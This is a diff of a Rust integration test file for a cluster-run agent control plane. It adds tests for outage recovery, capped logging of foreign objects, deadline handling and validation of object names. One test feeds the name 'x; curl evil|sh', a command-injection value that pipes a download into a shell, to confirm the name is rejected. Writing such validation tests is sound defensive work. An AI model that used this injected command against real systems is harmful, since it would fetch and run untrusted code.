@@ -136,6 +136,7 @@ async fn an_attempt_in_a_cluster_outlives_the_process_of_its_worker() {
 
     let started = AttemptStarted { isolation: "pod on node-1".to_owned(), unsandboxed: false };
     assert!(played.report(&second, What::Started(started)).await);
+    world.until("it waits no more", |_| (!said(world, issue, no_room)).then_some(())).await;
     assert!(played.report(&second, waits("Its image is fetched")).await, "late, and it changes nothing");
     played.runner(&second).hello(HelloRequest::default()).await.expect("an assignment");
     let detail = played.until_state(&second, "running").await;
@@ -147,6 +148,12 @@ async fn an_attempt_in_a_cluster_outlives_the_process_of_its_worker() {
     for foreign in [object(&second, 'b', "u-1"), object(&second, 'a', "u-2"), forged.clone(), forged] {
         assert_eq!(judged(&played, SECOND_PROCESS, foreign).await, Verdict::Foreign);
     }
+    // People are told these names in commands, and a namespace of nobody's is in no record.
+    let pasted = ClusterObject { name: "x; curl evil|sh".to_owned(), ..object(&second, 'a', "u-9") };
+    let refused = try_judge(&played, SECOND_PROCESS, pasted).await.expect_err("no such name");
+    assert_eq!(refused.code(), Code::InvalidArgument, "{refused:?}");
+    let elsewhere = ClusterObject { namespace: "callboard-other".to_owned(), ..object(&second, 'a', "u-10") };
+    assert_eq!(judged(&played, SECOND_PROCESS, elsewhere).await, Verdict::Foreign);
     let message = "The agent used more memory than the 4096 MiB it may have";
     assert!(played.report(&second, ended(Cause::OutOfMemory, message)).await);
     world.cancel(&played.busy).await.expect("cancelled");
@@ -168,6 +175,46 @@ async fn an_attempt_in_a_cluster_outlives_the_process_of_its_worker() {
     let found = findings.iter().find(|finding| finding.probe == "agent runs").expect("a finding");
     assert!(found.found.starts_with("3 of somebody else"), "{found:#?}");
     played.world.end().await;
+}
+
+/// Nobody could be heard while the control plane was away: what went on well in a cluster goes on.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_control_plane_that_was_away_loses_no_attempt_in_a_cluster() {
+    let mut played = Played::start().await;
+    played.adopt(FIRST_PROCESS).await.expect("nothing to adopt");
+    asked(&played.world, "Say hello").await;
+    let lease = played.lease(FIRST_PROCESS).await.expect("leased");
+    assert!(played.report(&lease, planned(&lease, 'a')).await);
+    played.world.down().await;
+    played.silence(&lease).await;
+    played.world.up().await;
+    // The watchdog has looked once it has ended what ended with the platform.
+    played.world.clock.advance(TimeDelta::seconds(10));
+    played.world.until_run(&played.busy, "a second attempt", |detail| detail.attempts.len() == 2).await;
+    let detail = played.world.get(&lease.run_id).await;
+    assert_eq!(detail.attempts[0].state, "leased", "{detail:#?}");
+    assert!(played.beat(FIRST_PROCESS, &lease).await.is_empty());
+    played.world.cancel(&lease.run_id).await.expect("cancelled");
+    played.end().await;
+}
+
+/// A project in whose namespace somebody makes object after object is not told of each.
+#[tokio::test(flavor = "multi_thread")]
+async fn what_is_not_ours_is_noted_a_hundred_times_a_day() {
+    let played = Played::start().await;
+    let adopted = played.adopt(FIRST_PROCESS).await.expect("nothing to adopt");
+    for number in 0..102 {
+        let forged = ClusterObject {
+            namespace: adopted.namespaces[0].clone(),
+            name: format!("forged-{number}"),
+            uid: format!("u-{number}"),
+            ..ClusterObject::default()
+        };
+        assert_eq!(judged(&played, FIRST_PROCESS, forged).await, Verdict::Foreign);
+    }
+    let noted = sqlx::query_scalar::<_, i64>("select count(*) from foreign_objects");
+    assert_eq!(noted.fetch_one(&mut played.world.db().await).await.expect("a count"), 100);
+    played.end().await;
 }
 
 /// What the cluster did is tried again, or ends the run, with the worker's sentence. What was never
@@ -204,5 +251,13 @@ async fn what_a_cluster_did_decides_what_follows() {
         ("failed", "infrastructure", image)
     );
     assert_eq!(detail.attempts.len(), 3);
+
+    // Whoever may change Jobs does not decide what a run's time is.
+    asked(world, "Say goodbye").await;
+    let fourth = played.lease(SECOND_PROCESS).await.expect("leased");
+    assert!(played.report(&fourth, ended(Cause::Deadline, "Its Job took too long")).await);
+    let run = played.until_state(&fourth, "lost").await.run.expect("a run");
+    assert!(run.message.contains("not the platform's"), "{}", run.message);
+    world.cancel(&fourth.run_id).await.expect("cancelled");
     played.world.end().await;
 }
